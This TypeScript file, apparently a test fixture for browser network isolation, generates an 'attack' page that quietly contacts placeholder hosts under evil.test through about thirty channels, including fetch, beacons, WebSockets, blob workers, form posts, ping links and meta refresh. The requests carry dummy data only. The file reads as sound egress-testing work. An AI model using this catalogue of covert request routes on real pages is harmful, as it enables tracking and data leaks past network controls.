// A page that tries to reach, by every road a browser has, hosts named after the road: <vector>.evil.test.

export const PAGE_VECTORS = [
  'img',
  'script',
  'style',
  'font',
  'video',
  'object',
  'iframe',
  'fetch',
  'keepalive',
  'redirected-fetch',
  'xhr',
  'websocket',
  'secure-websocket',
  'tls',
  'worker-fetch',
  'import-scripts',
  'shared-worker-fetch',
  'event-source',
  'beacon',
  'ping',
  'form-post',
  'prefetch',
  'module-preload',
  'preconnect',
  'manifest',
  'icon',
  'popup',
  'download',
  'refresh',
] as const;

type Vector = (typeof PAGE_VECTORS)[number];

/** The vectors whose TLS handshake shows no name to a plain server. */
export const TLS_VECTORS: readonly Vector[] = ['secure-websocket', 'tls'];

export function attackPage(port: number): string {
  const at = (vector: Vector, scheme = 'http'): string => `${scheme}://${vector}.evil.test:${port}/${vector}`;
  const redirectTo = (vector: Vector): string => `/redirect?to=${encodeURIComponent(at(vector))}`;
  return `<!doctype html><meta charset="utf-8"><title>attack</title>
<link rel="manifest" href="${at('manifest')}" crossorigin="use-credentials">
<link rel="icon" href="${at('icon')}">
<link rel="stylesheet" href="${at('style')}">
<link rel="prefetch" href="${at('prefetch')}">
<link rel="modulepreload" href="${at('module-preload')}">
<link rel="preconnect" href="${at('preconnect', 'https')}">
<style>@font-face { font-family: evil; src: url(${at('font')}); } p { font-family: evil; }</style>
<script async src="${at('script')}"></script>
<p>text</p>
<img src="${at('img')}"><img src="${at('tls', 'https')}">
<video src="${at('video')}" preload="auto"></video>
<object data="${at('object')}" type="text/html"></object>
<iframe src="${at('iframe')}"></iframe>
<iframe name="sink"></iframe>
<iframe srcdoc='<meta http-equiv="refresh" content="0;url=${at('refresh')}">'></iframe>
<form method="post" target="sink" action="${at('form-post')}"><input name="a" value="b"></form>
<a id="ping" href="#x" ping="${at('ping')}">ping</a>
<iframe srcdoc='<a download="f" href="${redirectTo('download')}">x</a><script>document.links[0].click()</script>'></iframe>
<script>
  const quietly = (road) => { try { Promise.resolve(road()).catch(() => undefined); } catch { /* a closed road */ } };
  const fromBlob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  quietly(() => fetch('${at('fetch')}', { mode: 'no-cors' }));
  quietly(() => fetch('${at('keepalive')}', { mode: 'no-cors', keepalive: true }));
  quietly(() => fetch('${redirectTo('redirected-fetch')}', { mode: 'no-cors' }));
  quietly(() => { const xhr = new XMLHttpRequest(); xhr.open('GET', '${at('xhr')}'); xhr.send(); });
  quietly(() => new WebSocket('${at('websocket', 'ws')}'));
  quietly(() => new WebSocket('${at('secure-websocket', 'wss')}'));
  quietly(() => new EventSource('${at('event-source')}'));
  quietly(() => navigator.sendBeacon('${at('beacon')}', 'x'));
  quietly(() => new Worker(fromBlob("fetch('${at('worker-fetch')}', { mode: 'no-cors' })")));
  quietly(() => new Worker(fromBlob("importScripts('${at('import-scripts')}')")));
  quietly(() => new SharedWorker(fromBlob("fetch('${at('shared-worker-fetch')}', { mode: 'no-cors' })")));
  quietly(() => window.open('${at('popup')}'));
  document.forms[0].submit();
  document.querySelector('#ping').click();
</script>`;
}

/** Browsers speculate only over https and inside one site: a sibling name is as far as it goes. */
export function speculationPage(urls: readonly string[]): string {
  const rules = [{ source: 'list', urls, eagerness: 'immediate' }];
  return `<!doctype html><title>speculation</title>
<script type="speculationrules">${JSON.stringify({ prefetch: rules, prerender: rules })}</script>`;
}
